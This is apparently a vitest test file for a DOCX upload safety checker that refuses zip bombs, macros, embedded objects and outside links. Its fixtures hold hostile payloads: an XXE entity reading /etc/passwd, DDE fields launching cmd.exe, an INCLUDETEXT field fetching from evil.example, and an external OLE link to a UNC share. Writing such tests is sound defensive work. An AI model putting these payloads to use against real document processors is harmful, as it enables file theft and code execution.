import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import { checkTemplateDocx } from './docx-safety.ts';
import { zipOfParts } from '../../platform/uploads/test-files.ts';
import { minimalDocx, zipFiles } from './minimal-docx.ts';

const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function documentRels(...relationships: string[]): string {
  return `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS_NS}">${relationships.join('')}</Relationships>`;
}

function withBody(body: string, extraEntries: Record<string, string> = {}): Buffer {
  return minimalDocx([], { bodyXml: body, extraEntries });
}

async function refusal(data: Buffer, name = 'letter.docx'): Promise<string> {
  const verdict = await checkTemplateDocx(data, name);
  if (verdict.ok) throw new Error('expected a refusal');
  return verdict.reason;
}

describe('checkTemplateDocx', () => {
  it('keeps an ordinary document as it is', async () => {
    const data = minimalDocx(['Dear {{member.fullName}},']);
    const verdict = await checkTemplateDocx(data, 'letter.docx');
    expect(verdict).toMatchObject({ ok: true, data, removed: [] });
  });

  it('refuses bytes that are not a ZIP, and a ZIP without a document', async () => {
    expect(await refusal(Buffer.from('%PDF-1.7 not a document'))).toMatch(/not a ZIP/);
    const zip = new PizZip();
    zip.file('[Content_Types].xml', '<Types/>');
    expect(await refusal(zip.generate({ type: 'nodebuffer' }))).toMatch(/missing word\/document.xml/);
  });

  it('refuses a zip bomb from its directory, before inflating it', async () => {
    const bomb = minimalDocx(['x'], {
      extraEntries: { 'word/media/padding.xml': '0'.repeat(20 * 1024 * 1024) },
    });
    expect(bomb.length).toBeLessThan(200 * 1024);
    expect(await refusal(bomb)).toMatch(/uncompressed size too large/);
  });

  it('V5.2.3 refuses a part whose directory under-declares its size, inflating no more than declared', async () => {
    const docx = minimalDocx(['x']);
    const parts = zipFiles(docx).map((file) => ({ name: file.name, content: file.data, deflate: true }));
    // 64 MiB of XML-looking text in about 64 KiB, declared as 2,000 bytes in both headers.
    const hidden = { name: 'word/footer1.xml', content: Buffer.alloc(64 * 1024 * 1024, ' '), deflate: true };
    const bomb = zipOfParts([...parts, { ...hidden, declaredSize: 2000 }]);
    const before = process.memoryUsage().arrayBuffers;
    expect(await refusal(bomb)).toBe('not a valid DOCX file (a part inflates beyond its declared size)');
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(8 * 1024 * 1024);
  });

  it('refuses an archive with too many entries', async () => {
    const entries = Object.fromEntries(Array.from({ length: 5001 }, (_, i) => [`word/p${i}.xml`, '<a/>']));
    expect(await refusal(minimalDocx(['x'], { extraEntries: entries }))).toMatch(/too many entries/);
  });

  it('refuses DOCTYPE and ENTITY declarations in any XML part (XXE)', async () => {
    const xxe =
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document xmlns:w="x"><w:body>&xxe;</w:body></w:document>';
    const zip = new PizZip(minimalDocx(['x']));
    zip.file('word/document.xml', xxe);
    expect(await refusal(zip.generate({ type: 'nodebuffer' }))).toMatch(/DOCTYPE or ENTITY/);
    const inRels = minimalDocx(['x'], {
      extraEntries: { 'word/_rels/document.xml.rels': '<!ENTITY a "b"><Relationships/>' },
    });
    expect(await refusal(inRels)).toMatch(/word\/_rels\/document.xml.rels declares/);
  });

  it('refuses macro-enabled files: a .docm name, its content type, a VBA project', async () => {
    expect(await refusal(minimalDocx(['x']), 'letter.docm')).toMatch(/\.docx/);
    const docm = minimalDocx(['x'], {
      contentTypes:
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    });
    expect(await refusal(docm)).toMatch(/macros/);
    expect(await refusal(minimalDocx(['x'], { extraEntries: { 'word/vbaProject.bin': 'VBA' } }))).toMatch(
      /macros/,
    );
  });

  it('refuses DDE fields, also when the instruction is split over runs', async () => {
    const split =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>' +
      '<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>' +
      '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    expect(await refusal(withBody(split))).toMatch(/DDE/);
    const simple =
      '<w:p><w:fldSimple w:instr="DDE excel sheet1 r1c1"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>';
    expect(await refusal(withBody(simple))).toMatch(/DDE/);
    const include = '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example/x&quot;"/></w:p>';
    expect(await refusal(withBody(include))).toMatch(/field/);
    // An ordinary field (a page number) is fine.
    const page = '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>';
    expect((await checkTemplateDocx(withBody(page), 'letter.docx')).ok).toBe(true);
  });

  it('refuses embedded objects', async () => {
    expect(
      await refusal(minimalDocx(['x'], { extraEntries: { 'word/embeddings/oleObject1.bin': 'ole' } })),
    ).toMatch(/embedded objects/);
    expect(await refusal(withBody('<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>'))).toMatch(
      /embedded object/,
    );
  });

  it('refuses links to outside content but keeps hyperlinks', async () => {
    const hyperlink = `<Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://example.com" TargetMode="External"/>`;
    const linked = minimalDocx(['x'], {
      extraEntries: { 'word/_rels/document.xml.rels': documentRels(hyperlink) },
    });
    expect(await checkTemplateDocx(linked, 'letter.docx')).toMatchObject({ ok: true, removed: [] });
    const ole = `<Relationship Id="rId6" Type="${REL}/oleObject" Target="\\\\evil\\share\\x.bin" TargetMode="External"/>`;
    const outside = minimalDocx(['x'], {
      extraEntries: { 'word/_rels/document.xml.rels': documentRels(hyperlink, ole) },
    });
    expect(await refusal(outside)).toMatch(/outside content \(oleObject\)/);
  });

  it('removes a link to an outside attached template and reports it', async () => {
    const attached = `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///C:/Templates/Letter.dotm" TargetMode="External"/>`;
    const data = minimalDocx(['x'], {
      extraEntries: {
        'word/settings.xml':
          '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="rId1"/></w:settings>',
        'word/_rels/settings.xml.rels': documentRels(attached),
      },
    });
    const verdict = await checkTemplateDocx(data, 'letter.docx');
    expect(verdict).toMatchObject({ ok: true, removed: ['attached_template'] });
    const kept = new PizZip(verdict.ok ? verdict.data : Buffer.alloc(0));
    expect(kept.file('word/_rels/settings.xml.rels')!.asText()).not.toContain('attachedTemplate');
    expect(kept.file('word/settings.xml')!.asText()).not.toContain('attachedTemplate');
  });
});
